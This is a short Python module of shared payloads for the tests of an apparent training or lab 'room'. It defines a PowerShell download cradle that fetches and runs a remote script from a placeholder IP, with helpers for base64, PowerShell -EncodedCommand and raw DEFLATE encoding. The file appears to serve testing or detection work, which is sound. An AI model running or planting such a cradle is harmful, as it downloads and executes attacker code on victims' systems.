"""Payloads that the tests of this room share."""

from __future__ import annotations

import base64
import zlib

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/stage.ps1')"


def plain(text: str) -> str:
    """Encode text as UTF-8 and base64."""
    return base64.b64encode(text.encode()).decode()


def command(text: str) -> str:
    """Encode text as PowerShell's -EncodedCommand takes it."""
    return base64.b64encode(text.encode("utf-16-le")).decode()


def binary(data: bytes) -> str:
    """Encode bytes as base64."""
    return base64.b64encode(data).decode()


def deflated(data: bytes) -> bytes:
    """Compress bytes to a raw DEFLATE stream."""
    stream = zlib.compressobj(9, zlib.DEFLATED, -15)
    return stream.compress(data) + stream.flush()
